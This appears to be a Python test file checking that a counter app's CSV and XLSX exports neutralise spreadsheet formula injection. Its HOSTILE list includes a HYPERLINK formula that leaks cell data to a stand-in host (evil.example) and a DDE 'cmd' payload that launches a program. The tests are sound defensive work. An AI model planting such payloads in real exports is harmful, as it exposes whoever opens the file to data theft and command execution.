"""Names typed by people reach exported files as text, never as spreadsheet formulas."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, datetime

import pytest
import xlsxwriter

from counter_app.export.csv_file import table_csv
from counter_app.export.tables import Table, TableName
from counter_app.export.xlsx_file import _write_sheet

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _table() -> Table:
    rows: list[list[str | int | float | None]] = [[name, -3, -1.5, None] for name in HOSTILE]
    rows.append(["Loket 1", 4, 2.5, None])
    return Table(TableName.SUMMARY, "Ringkasan", ["=Nama", "Jumlah", "Menit", "Kosong"], rows)


def _rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def test_csv_text_cells_that_start_a_formula_are_quoted_with_an_apostrophe() -> None:
    header, *rows = _rows(table_csv(_table()))
    assert header[0] == "'=Nama"
    for name, row in zip(HOSTILE, rows, strict=False):
        assert row[0] == "'" + name
    assert rows[-1][0] == "Loket 1"


def test_csv_negative_numbers_stay_numbers() -> None:
    _, *rows = _rows(table_csv(_table()))
    for row in rows[:-1]:
        assert row[1:] == ["-3", "-1.5", ""]


@pytest.mark.parametrize("text", ["Pak Budi", "A-007", "50% selesai", "loket=2"])
def test_csv_ordinary_text_is_unchanged(text: str) -> None:
    table = Table(TableName.SUMMARY, "t", ["Nama"], [[text]])
    assert _rows(table_csv(table))[1] == [text]


def test_xlsx_writes_hostile_names_as_strings_never_formulas() -> None:
    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer, {"in_memory": True})
    workbook.set_properties({"created": datetime(2026, 1, 1, tzinfo=UTC).replace(tzinfo=None)})
    bold = workbook.add_format({"bold": True})
    _write_sheet(workbook, _table(), "periode", bold, bold)
    workbook.close()
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
        strings = archive.read("xl/sharedStrings.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet
    assert "HYPERLINK" in strings and "cmd|" in strings
    # Negative numbers are numeric cells (no t="s"), with their value.
    assert re.search(r'<c r="B5"[^>]*><v>-3</v></c>', sheet)
